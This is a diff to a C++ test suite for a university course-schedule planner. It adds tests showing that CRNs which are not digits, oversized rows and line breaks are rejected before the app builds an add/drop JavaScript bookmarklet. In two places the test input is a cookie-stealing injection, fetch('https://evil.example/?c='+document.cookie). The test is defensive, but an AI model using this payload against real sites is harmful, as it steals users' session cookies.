@@ -158,7 +158,7 @@ TEST_F(PlanCommandsTest, CommittedRowSurvivesSaveAndLoad) {
   files.CRNListeKopyalaClick();
   EXPECT_EQ(view.Clip().Text(), "21003\r\n30002\r\n");
   files.CRNScriptKopyalaClick();
-  EXPECT_EQ(view.Clip().Text().substr(0, 33), "javascript:var crn=[21003,30002];");
+  EXPECT_EQ(view.Clip().Text().substr(0, 37), R"(javascript:var crn=["21003","30002"];)");
 }
 
 TEST_F(PlanCommandsTest, LocksExclusionsAndBusyHoursSurviveSaveAndLoad) {
@@ -281,6 +281,12 @@ TEST_F(PlanCommandsTest, FilesThatHoldNoPlanAreRejectedAndThePlanIsKept) {
   planner::PlanSnapshot constrained = DecodePlan(good);
   constrained.constraints.excluded = {"30001"};
   const std::string with_constraints = EncodePlan(constrained);
+  planner::PlanSnapshot code_crn = DecodePlan(good);
+  code_crn.rows[0]->CRN = "1,fetch('https://evil.example/?c='+document.cookie)";
+  planner::PlanSnapshot many_meetings = DecodePlan(good);
+  many_meetings.rows[0]->meetings.assign(20000, many_meetings.rows[0]->meetings[0]);
+  std::string block_with_break = with_constraints;
+  block_with_break.replace(block_with_break.find("30001"), 5, "300\n1");
   std::mt19937 random(7);
   std::string garbage(3000, '\0');
   for (char& c : garbage) c = static_cast<char>(random() % 256);
@@ -300,6 +306,11 @@ TEST_F(PlanCommandsTest, FilesThatHoldNoPlanAreRejectedAndThePlanIsKept) {
       {"constraints cut short", with_constraints.substr(0, with_constraints.size() - 1),
        "kısıtlar bölümü yarıda kesilmiş"_w},
       {"a byte after the constraints", with_constraints + "x", "kısıtlar bölümünden sonra fazladan veri var"_w},
+      {"a CRN that would run as code", EncodePlan(code_crn), "1. satırdaki dersin CRN'si beş haneli bir sayı değil"_w},
+      {"20000 meetings in a row", EncodePlan(many_meetings),
+       "1. satırdaki dersin 20000 ders saati var (bir şubenin en çok 70 ders saati olur)"_w},
+      {"a line break in an excluded CRN", block_with_break,
+       "hariç tutulan bir CRN'de satır sonu ya da denetim karakteri var"_w},
   };
   // The constraints on screen are kept too.
   planner.Lock(1, "21001");
@@ -398,6 +409,25 @@ TEST_F(PlanCommandsTest, CrnClipboardTexts) {
   EXPECT_EQ(view.Clip().Text(), "21001\r\n30002");
   files.CRNScriptKopyalaClick();
   EXPECT_EQ(view.Clip().Text(), CrnScriptText(RowCrns{"", "21001", "", "", "", "", "", "", "", "30002"}));
+}
+
+// A catalogue filled before CRNs were checked may hold anything as a CRN;
+// the add/drop script, which runs with the student's session, never
+// carries it.
+TEST_F(PlanCommandsTest, AScriptOfACrnThatIsNotDigitsIsRefusedAndTheClipboardKept) {
+  const std::string code = "1,fetch('https://evil.example/?c='+document.cookie)";
+  store.Refill("MAT", {Section(code, "MAT 101", "Ece Ay", "Cuma", "0930/1029")});
+  Commit(2, "ELK", "ELK 101", "21001");
+  Commit(4, "MAT", "MAT 101", code);
+  view.Clip().SetText("önceki");
+  files.CRNScriptKopyalaClick();
+  EXPECT_EQ(view.Clip().Text(), "önceki");
+  ASSERT_EQ(view.Dialog().messages.size(), 1u);
+  EXPECT_EQ(view.Dialog().messages[0].caption, "HATA");
+  EXPECT_EQ(view.Dialog().messages[0].text.rfind("4. satırdaki dersin CRN'si yalnızca rakamlardan oluşmuyor"_w, 0), 0u)
+      << Cp1254ToUtf8(view.Dialog().messages[0].text);
+  files.CRNListeKopyalaClick();  // plain text, pasted where the student wants it
+  EXPECT_EQ(view.Clip().Text(), "21001\r\n" + code + "\r\n");
 }
 
 TEST_F(PlanCommandsTest, ExcelExportWritesTheGridOrNothing) {
